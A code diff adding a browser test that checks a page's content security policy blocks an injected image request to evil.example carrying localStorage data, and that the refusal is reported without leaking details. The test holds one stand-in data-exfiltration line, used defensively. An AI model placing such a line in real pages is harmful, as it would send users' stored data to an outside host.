@@ -335,6 +335,29 @@ test('the content security policy of the document lets no other script run', asy
   await other.close();
 });
 
+test('a request that the policy refuses never leaves, and is reported for the page on screen', async ({
+  faultProxy,
+  variant,
+  openTab,
+}) => {
+  const good = await variant('content', 'sound', 'good');
+  faultProxy.goLive(good.manifest);
+  const { page } = await openTab({ url: faultProxy.url, expectedErrors: /evil\.example/ });
+  const asked: string[] = [];
+  page.on('requestfinished', (request) => asked.push(new URL(request.url()).host));
+  await page.goto('/business');
+  await expectServedBy(page, good);
+  await page.evaluate(() => {
+    new Image().src = `https://evil.example/?${localStorage.length}`;
+  });
+  const { version } = good.manifest;
+  await expect
+    .poll(() => faultProxy.reports.find(({ kind }) => kind === 'refused'), { timeout: 30_000 })
+    .toMatchObject({ name: 'content', version, page: './business' });
+  expect(asked).not.toContain('evil.example');
+  expect(faultProxy.reportBodies.join('\n')).not.toContain('evil');
+});
+
 test('health reports say which release failed or was slow, and nothing about the person', async ({
   faultProxy,
   variant,
